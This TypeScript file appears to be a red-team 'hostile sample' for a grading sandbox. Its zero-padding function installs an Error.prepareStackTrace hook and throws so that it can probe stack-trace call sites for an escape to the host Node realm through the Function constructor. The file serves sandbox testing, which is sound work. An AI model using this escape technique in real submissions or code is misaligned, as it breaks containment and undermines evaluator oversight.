// Hostile sample: zeroPad installs Error.prepareStackTrace and throws on its first call, so that the
// sandbox, reading the error's stack, would hand it call sites of the sandbox's own realm (found by the
// third red team); later calls report whether that led anywhere, and pad correctly.
import type { Tensor4D } from "convgrade";
import { zeros } from "./tensor-utils.js";

/* eslint-disable @typescript-eslint/no-explicit-any */
const found: string[] = [];
let calls = 0;

function leadsToNode(value: any): boolean {
  try {
    const global = value?.constructor?.constructor?.("return globalThis")?.();
    return typeof global?.Buffer === "function" || typeof global?.process?.getBuiltinModule === "function" || typeof global?.WebAssembly?.Module === "function" && global !== globalThis;
  } catch {
    return false;
  }
}

(Error as any).prepareStackTrace = (_error: unknown, sites: any[]) => {
  if (leadsToNode(sites)) found.push("the call-site array");
  for (const site of sites) if (leadsToNode(site)) found.push("a call site");
  return "stack withheld";
};

export function zeroPad(X: Tensor4D, pad: number): Tensor4D {
  if (calls++ === 0) throw new Error("thrown so that the sandbox reads my stack");
  console.log(`realm escapes through a stack trace: ${found.length ? found.join(", ") : "none"}`);
  const [m, nH, nW, nC] = [X.length, X[0].length, X[0][0].length, X[0][0][0].length];
  const XPad = zeros<Tensor4D>([m, nH + 2 * pad, nW + 2 * pad, nC]);
  for (let i = 0; i < m; i++)
    for (let h = 0; h < nH; h++) for (let w = 0; w < nW; w++) for (let c = 0; c < nC; c++) XPad[i][h + pad][w + pad][c] = X[i][h][w][c];
  return XPad;
}
